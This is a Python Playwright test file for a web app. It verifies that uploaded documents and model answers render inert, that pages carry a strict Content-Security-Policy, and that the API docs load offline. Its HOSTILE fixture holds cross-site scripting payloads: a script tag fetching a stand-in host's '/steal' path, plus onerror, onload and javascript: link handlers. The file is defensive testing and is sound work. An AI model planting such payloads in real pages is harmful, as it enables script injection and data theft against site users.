"""Rendering is safe: an uploaded document carrying scripts renders inert, the pages carry a
strict Content-Security-Policy, nothing is requested from another host, and /docs and /redoc
work from local assets."""

import httpx
from playwright.async_api import expect

from tests.web.conftest import BrowserPage
from tests.web.server import Server

HOSTILE = """# Incident playbook

<script>window.__pwned = "script"; fetch("http://203.0.113.9/steal")</script>

## Escalation

Call the duty manager. <img src="http://203.0.113.9/pixel.png" onerror="window.__pwned = 'img'">

Log the permit as ROOF-PERMIT <work-order-id> <valid-until>.

[Open the runbook](javascript:window.__pwned='link') or [the wiki](https://example.com/wiki).

<a href="javascript:alert(1)" onclick="window.__pwned='click'">click me</a>

<iframe src="http://203.0.113.9/frame"></iframe>
<svg onload="window.__pwned='svg'"><circle r="5"/></svg>
<form action="http://203.0.113.9/"><button>Send</button></form>
"""


async def test_hostile_document_renders_inert(
    dev_server: Server, browser_page: BrowserPage
) -> None:
    async with httpx.AsyncClient(base_url=dev_server.url) as client:
        created = await client.post(
            "/api/documents", json={"title": "Incident playbook", "content": HOSTILE}
        )
    document_id = created.json()["id"]
    page = browser_page.page
    await page.goto(f"{dev_server.url}/#/documents/{document_id}")
    body = page.locator(".document-body")
    await expect(body).to_contain_text("Call the duty manager.")
    # Markup is shown as the text it is: placeholders in angle brackets are kept, not dropped.
    await expect(body).to_contain_text("ROOF-PERMIT <work-order-id> <valid-until>.")
    assert await body.locator("script, img, iframe, svg, form, [onerror], [onclick]").count() == 0
    for link in await body.locator("a").all():
        href = await link.get_attribute("href")
        assert href is None or href.startswith("https://"), href
    for name in ("Open the runbook", "click me"):
        await body.get_by_text(name).click()
    assert await page.evaluate("window.__pwned") is None
    assert browser_page.foreign_requests() == []


async def test_hostile_model_output_renders_inert(
    hostile_server: Server, browser_page: BrowserPage
) -> None:
    page = browser_page.page
    await page.goto(hostile_server.url)
    await browser_page.ask("How many technicians are active?")
    answer = page.locator(".turn .answer")
    await expect(page.locator(".turn .turn-status .meta")).to_contain_text("route")
    await expect(answer.locator("strong")).to_have_text("Answer")
    assert await answer.locator("script, img, [onerror]").count() == 0
    await answer.get_by_text("the details").click()
    assert await page.evaluate("window.__pwned") is None
    assert browser_page.foreign_requests() == []


async def test_pages_are_served_with_a_strict_policy(dev_server: Server) -> None:
    async with httpx.AsyncClient(base_url=dev_server.url) as client:
        for path in ("/", "/ui/js/main.js", "/ui/app.css"):
            response = await client.get(path)
            assert response.status_code == 200, path
            policy = response.headers["content-security-policy"]
            assert "script-src 'self'" in policy and "unsafe-inline" not in policy
            assert "default-src 'none'" in policy and "connect-src 'self'" in policy
            assert response.headers["referrer-policy"] == "no-referrer"
        page = (await client.get("/")).text
    assert "<script>" not in page and "http://" not in page and "https://" not in page


async def test_api_docs_render_offline_without_console_errors(
    dev_server: Server, browser_page: BrowserPage
) -> None:
    page = browser_page.page
    await browser_page.cut_off()
    await page.goto(dev_server.url + "/docs")
    # Swagger UI lists every operation, each one expandable.
    operations = page.locator(".opblock-summary")
    await expect(operations.filter(has_text="/api/chat/stream").first).to_be_visible()
    assert await operations.count() > 10
    await page.goto(dev_server.url + "/redoc")
    await expect(page.locator("h2", has_text="Chat Stream").first).to_be_visible()
    await expect(page.get_by_role("menuitem").filter(has_text="Chat Stream").first).to_be_attached()
    assert browser_page.foreign_requests() == []
    assert browser_page.console_errors == [], "no CSP violation, no failed request, no error"
